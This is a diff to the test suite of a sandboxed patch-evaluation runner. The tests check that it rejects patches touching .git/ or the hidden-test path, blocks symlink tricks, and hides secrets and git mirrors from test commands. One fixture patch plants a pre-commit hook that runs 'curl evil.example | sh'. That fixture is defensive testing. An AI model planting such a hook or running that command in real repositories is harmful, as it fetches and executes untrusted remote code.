@@ -1,3 +1,4 @@
+import { execFileSync } from "node:child_process";
 import { randomUUID } from "node:crypto";
 import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { mkdtemp, rm } from "node:fs/promises";
@@ -69,6 +70,19 @@ describe("executeRun on the Node fixture", () => {
     expect(result.signature).toBeNull();
   });
 
+  it("reports hidden tests that do not apply to the base as a setup failure of the run", async () => {
+    const result = await executeRun(spec({ patch: null, hiddenTestPatch: fixture.staleContextPatch }), options);
+    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "setup_failed" });
+    expect(result.message).toMatch(/the hidden tests do not apply to the base/);
+  });
+
+  it("refuses a curator's patch that writes where the hidden tests go, naming the path", async () => {
+    const own = "diff --git a/test/clamp.test.js b/test/clamp.test.js\nnew file mode 100644\n--- /dev/null\n+++ b/test/clamp.test.js\n@@ -0,0 +1 @@\n+// mine\n";
+    const result = await executeRun(spec({ patch: own }), options);
+    expect(result).toMatchObject({ outcome: "forbidden_content" });
+    expect(result.message).toMatch(/test\/clamp\.test\.js, where the hidden tests go/);
+  });
+
   it("refuses a patch that touches .git/", async () => {
     const hook = "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil.example | sh\n";
     const result = await executeRun(spec({ patch: hook }), options);
@@ -129,7 +143,7 @@ describe("executeRun on the Node fixture", () => {
     expect(next).toMatchObject({ outcome: "passed", limitsHit: [] });
   });
 
-  it("shows the test command nothing of the data folder its cache lives in, but the mirror it borrows objects from", async () => {
+  it("shows the test command nothing of the data folder its cache lives in, not even the mirror: git sees the base commit alone", async () => {
     const dataDir = await mkdtemp(path.join("/var/tmp", "specpath-data-"));
     try {
       mkdirSync(path.join(dataDir, "secrets"), { recursive: true });
@@ -139,12 +153,16 @@ describe("executeRun on the Node fixture", () => {
         `ls ${dataDir} && echo LISTED_DATA`,
         `ls ${dataDir}/cache && echo LISTED_CACHE`,
         "git log --oneline -1 > /dev/null && echo GIT_OK",
+        `ls ${dataDir}/cache/mirrors && echo LISTED_MIRRORS`,
+        `echo "commits=$(git rev-list --all | wc -l) objects=$(git cat-file --batch-all-objects --batch-check | wc -l) remotes=$(git remote | wc -l)"`,
         fixture.testCommand,
       ].join("; ");
       const result = await executeRun(spec({ patch: fixture.goldPatch, testCommand: probe }), { cacheDir: path.join(dataDir, "cache") });
       expect(result.outcome).toBe("passed");
       expect(result.logs.stdout).not.toMatch(/READ_SECRET|LISTED_|s3cret/);
       expect(result.logs.stdout).toMatch(/GIT_OK/);
+      const baseObjects = execFileSync("git", ["rev-list", "--objects", `${fixture.baseCommit}^{tree}`], { cwd: fixture.repoDir, encoding: "utf8" }).trim().split("\n").length;
+      expect(result.logs.stdout).toContain(`commits=1 objects=${baseObjects + 1} remotes=0`);
     } finally {
       await rm(dataDir, { recursive: true, force: true });
     }
@@ -164,12 +182,13 @@ describe("executeRun on the Node fixture", () => {
     expect(result.outcome).toBe("passed");
   });
 
-  it("refuses to write the history file through a symlink a patch planted", async () => {
+  it("never writes the history file through a symlink a patch planted: the recipe clears the way to it first", async () => {
     const elsewhere = await mkdtemp(path.join(os.tmpdir(), "specpath-elsewhere-"));
     const symlink = `diff --git a/docs b/docs\nnew file mode 120000\n--- /dev/null\n+++ b/docs\n@@ -0,0 +1 @@\n+${elsewhere}\n\\ No newline at end of file\n`;
     try {
-      const result = await executeRun(spec({ patch: symlink, historyFile: { path: "docs/history.md", content: "Turn 1" } }), options);
-      expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "history_file_refused" });
+      const check = `test -d docs && test ! -L docs && test "$(cat docs/history.md)" = "Turn 1" && ${fixture.testCommand}`;
+      const result = await executeRun(spec({ patch: symlink, historyFile: { path: "docs/history.md", content: "Turn 1" }, testCommand: check }), options);
+      expect(result).toMatchObject({ outcome: "failed" });
       expect(readdirSync(elsewhere)).toEqual([]);
     } finally {
       await rm(elsewhere, { recursive: true, force: true });
@@ -211,7 +230,7 @@ describe("executeRun on the Node fixture", () => {
     expect(vandalized.workspace?.layer).toBe(overlayHere ? "overlay" : "copy");
     const repoDir = path.join(options.cacheDir, "workspaces", vandalized.workspace?.key ?? "", "repo");
     expect(readFileSync(path.join(repoDir, "src/math.js"), "utf8")).toMatch(/export function add/);
-    expect(readdirSync(path.join(repoDir, "test")).sort()).toEqual(["add.test.js", "clamp.test.js"]);
+    expect(readdirSync(path.join(repoDir, "test")).sort()).toEqual(["add.test.js"]); // hidden tests are written per run, never into the prepared tree
     expect(existsSync(path.join(repoDir, "node_modules"))).toBe(false);
     const next = await executeRun(spec({ patch: fixture.goldPatch }), options);
     expect(next).toMatchObject({ outcome: "passed", signature: "111" });
